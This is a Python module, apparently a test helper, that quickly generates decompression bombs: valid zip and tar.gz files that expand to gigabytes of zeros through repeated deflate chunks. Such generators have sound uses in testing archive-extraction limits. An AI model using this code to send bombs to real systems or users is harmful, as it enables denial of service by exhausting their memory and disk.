"""Real archive bombs, built in a second: valid zip and tar.gz files that expand to GiBs of zeros.

Compressing GiBs of zeros takes minutes of shared CPU.  A raw deflate stream flushed with
Z_FULL_FLUSH is byte-aligned and keeps no history, so one compressed MiB of zeros can simply be
repeated: the result is exactly what zlib would produce block by block, and every decoder (zipfile,
gzip, tarfile) reads it as N MiB of zeros with a correct CRC-32.
"""

from __future__ import annotations

import io
import struct
import tarfile
import zlib

MiB = 1024 * 1024
_ZEROS = bytes(MiB)


def _zero_crc(crc: int, mib: int) -> int:
    for _ in range(mib):
        crc = zlib.crc32(_ZEROS, crc)
    return crc


def deflate_zeros(prefix: bytes, mib: int) -> tuple[bytes, int, int]:
    """(raw deflate of ``prefix`` + ``mib`` MiB of zeros, its CRC-32, its length)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
    chunk = c.compress(_ZEROS) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(_ZEROS) + c.flush(zlib.Z_FULL_FLUSH)
    assert chunk == again, "zlib did not reset at the full flush"
    end = c.flush()
    stream = head + chunk * mib + end
    return stream, _zero_crc(zlib.crc32(prefix), mib), len(prefix) + mib * MiB


def zip_of_zeros(name: str, mib: int) -> bytes:
    """A one-member zip (deflated) whose member is ``mib`` MiB of zeros; under 4 GiB (no zip64)."""
    data, crc, size = deflate_zeros(b"", mib)
    assert size < 0xFFFFFFFF
    fname = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size, len(fname), 0)
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data), size,
                          len(fname), 0, 0, 0, 0, 0o644 << 16, 0)
    body = local + fname + data
    cd = central + fname
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(cd), len(body), 0)
    return body + cd + eocd


def tgz_of_zeros(name: str, mib: int) -> bytes:
    """A tar.gz with one member of ``mib`` MiB of zeros (after its 512-byte header, the tar is all zeros)."""
    info = tarfile.TarInfo(name)
    info.size = mib * MiB
    header = info.tobuf(format=tarfile.GNU_FORMAT)
    # the data (a multiple of 512) and the two 512-byte end blocks are zeros: round up to whole MiB
    data, crc, size = deflate_zeros(header, mib + 1)
    gz = io.BytesIO()
    gz.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff")
    gz.write(data)
    gz.write(struct.pack("<II", crc, size & 0xFFFFFFFF))
    return gz.getvalue()
